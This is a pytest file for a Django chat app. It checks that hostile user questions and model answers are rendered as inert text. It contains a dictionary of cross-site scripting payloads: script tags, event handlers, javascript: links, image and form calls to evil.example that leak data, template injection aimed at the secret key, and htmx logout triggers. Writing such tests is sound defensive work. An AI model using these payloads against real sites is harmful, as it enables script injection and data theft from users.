"""Hostile text through the whole road, as question and as answer: shown as text or dropped, never run, never an exception."""

from __future__ import annotations

import json
import logging
import time
from collections.abc import Callable, Iterator
from typing import cast
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse
from lxml import html as lxml_html  # type: ignore[import-untyped]

from accounts.models import User
from accounts.types import Actor
from conversations.rendering import render
from core.redis import get_redis
from providers.tests import fake_speech
from providers.tests.fake_provider import Reply
from providers.types import Provider
from realtime import wire
from realtime.types import Topic
from tests.beside import Provider as Fake
from tests.beside import provider_beside
from tests.page import read_articles
from tests.road import house as thread
from tests.road.house import CALLED

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("road")]
HOSTILE = {
    "a script": "<script>alert(1)</script><ScRiPt src=//evil.example></sCrIpT>",
    "handlers": "<img src=x onerror=alert(1)><svg/onload=alert(1)><body onpageshow=alert(1)>",
    "links that run": "[a](javascript:alert(1)) [b](JaVa&#x73;cript:alert(1)) [c](data:text/html,<script>1</script>) <javascript:alert(1)>",
    "remote images": "![x](https://evil.example/leak?q=secret) <img src='https://evil.example/p.gif'> ![y](//evil.example/z)",
    "broken out of": '</div></div></article></main><article data-part="body" data-status="completed"><form action=//evil.example>',
    "entities": "&lt;script&gt; &#60;script&#62;alert(1)&#60;/script&#62; &#x202e;",
    "in code": "```html\n<script>alert(1)</script>\n``` `<img src=x onerror=alert(1)>`",
    "attributes": '[x](https://a.example "\\" onmouseover=alert(1) x=\\"") ![" onerror="alert(1)](https://evil.example)',
    "frames": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><meta http-equiv=refresh content="0;//e.x">',
    "styles": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><p style='position:fixed'>x</p>",
    "null bytes": "be\x00fore<scr\x00ipt>alert(1)</scr\x00ipt>",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200fend",
    "a template": "{{ settings.SECRET_KEY }} {% include 'x' %} ${alert(1)} <%= 1 %>",
    "html htmx would obey": "<div hx-get='/accounts/logout/' hx-trigger=load ws-connect='/evil'></div><a hx-on:click=alert(1)>x</a>",
}


@pytest.fixture(scope="module")
def fake(road: None) -> Iterator[Fake]:
    with provider_beside() as provider, pytest.MonkeyPatch.context() as patch:
        thread.point_at(patch, dict.fromkeys(CALLED, provider.url))
        yield provider


@pytest.fixture(autouse=True)
def no_exception_is_logged(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    yield
    bad = [record for record in caplog.records if record.levelno >= logging.ERROR or record.exc_info]
    assert not bad, [record.getMessage() for record in bad]


def page_of(actor: Actor, conversation: object) -> str:
    client = Client()
    client.force_login(User.objects.get(id=actor.user_id))
    response = client.get(reverse("conversations:detail", args=[conversation]))
    assert response.status_code == 200
    return response.content.decode()


def assert_harmless(page: str) -> None:
    """Nothing in it runs, loads or leads anywhere that is not ours or a plain link."""
    tree = lxml_html.document_fromstring(page)
    for element in tree.iter("*"):
        assert element.tag not in ("iframe", "object", "embed", "base", "style", "applet"), element.tag
        assert element.tag != "meta" or "http-equiv" not in element.attrib
        assert element.tag != "script" or (element.get("src", "").startswith("/static/") and not element.text)
        for name, value in element.attrib.items():
            assert not name.startswith(("on", "hx-on", "style")), (element.tag, name)
            if name in ("href", "src", "action", "formaction", "srcset", "data", "poster"):
                address = urlsplit(value.strip())
                plain_link = element.tag == "a" and name == "href" and address.scheme in ("http", "https", "mailto")
                assert plain_link or (not address.scheme and not address.netloc), (element.tag, name, value)
            if name.startswith(("hx-get", "hx-post", "ws-connect")):
                assert not value or value.startswith(("/c/", "/usage/", "/ws/")), (name, value)
    assert len(tree.findall(".//article")) == 2


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_question_is_shown_as_what_it_is(text: str) -> None:
    actor = thread.someone()
    turn = thread.answer(text, actor=actor).turn
    page = page_of(actor, turn.conversation_id)
    assert_harmless(page)
    question = lxml_html.document_fromstring(page).find(".//article").find(".//div[@data-part='body']")
    assert question.text_content() == text.replace("\x00", "").strip()
    assert not list(question)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_answer_is_shown_as_text_or_dropped(fake: Fake, text: str) -> None:
    fake.say(Reply(fake_speech.chat(list(text))))  # every character alone
    actor = thread.someone()
    answered = thread.answer("Be evil.", "openai_compatible:priced", actor)
    assert (answered.generation.state, answered.generation.message.text) == ("completed", text.replace("\x00", ""))
    page = page_of(actor, answered.turn.conversation_id)
    assert_harmless(page)
    assert read_articles(page)[1].body == render(text.replace("\x00", ""))


@pytest.mark.parametrize("place", range(1, 25, 6))
def test_html_split_across_two_deltas_never_runs_on_the_way(fake: Fake, place: int) -> None:
    text = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    fake.say(Reply(fake_speech.chat([text[:place], text[place:]]), pause_seconds=0.06))
    actor = thread.someone()
    turn = thread.send(actor, "Be evil.", "openai_compatible:priced")
    pubsub = get_redis().pubsub()  # type: ignore[no-untyped-call]
    pubsub.subscribe(wire.channel(Topic("conversation", turn.conversation_id)))
    thread.write(turn)
    deltas = []
    while (message := pubsub.get_message(timeout=0.2)) is not None:
        event = json.loads(message["data"]) if message["type"] == "message" else {}
        if event.get("type") == "delta":
            deltas.append(event)
    pubsub.close()
    assert len(deltas) >= 2
    for part in ("".join(event.get("closed", "") + event.get("tail", "") for event in deltas), page_of(actor, turn.conversation_id)):
        assert "<script>" not in part
        assert "<img" not in part
        assert "&lt;script&gt;alert(1)" in part


@pytest.mark.parametrize("provider", CALLED)
def test_lone_surrogates_and_null_bytes_from_a_provider_do_not_break_an_answer(fake: Fake, provider: Provider) -> None:
    speak = cast(Callable[[list[str]], list[bytes]], fake_speech.SPEECH[provider])
    events = speak(["one MARK", "two MARK", "three"])
    fake.say(Reply([event.replace(b"MARK", mark) for event, mark in zip(events, _marks(), strict=False)]))
    actor = thread.someone()
    answered = thread.answer("Be evil.", f"{provider}:priced", actor)
    text = answered.generation.message.text
    assert answered.generation.state == "completed", answered.generation.error_message
    assert text.startswith("one ")
    assert text.endswith("three")
    assert "two " in text
    assert "\x00" not in text
    text.encode()
    assert_harmless(page_of(actor, answered.turn.conversation_id))


def _marks() -> Iterator[bytes]:
    """JSON escapes: half a pair, the other half, a null byte."""
    while True:
        yield from (b"\\ud83d", b"\\ude00", b"\\u0000")


def test_a_megabyte_without_a_space_passes_both_ways(fake: Fake) -> None:
    question, answer = "q" * 1_000_000, "a" * 1_048_576
    pieces = [answer[start : start + 65_536] for start in range(0, len(answer), 65_536)]
    fake.say(Reply(fake_speech.chat(pieces)))
    actor = thread.someone()
    began = time.monotonic()
    answered = thread.answer(question, "openai_compatible:priced", actor)
    print(f"a megabyte each way in {time.monotonic() - began:.1f} s")
    assert answered.generation.state == "completed", answered.generation.error_message
    page = page_of(actor, answered.turn.conversation_id)
    shown = read_articles(page)
    assert shown[0].body == question
    assert shown[1].body.count("a") >= len(answer)
    assert_harmless(page)
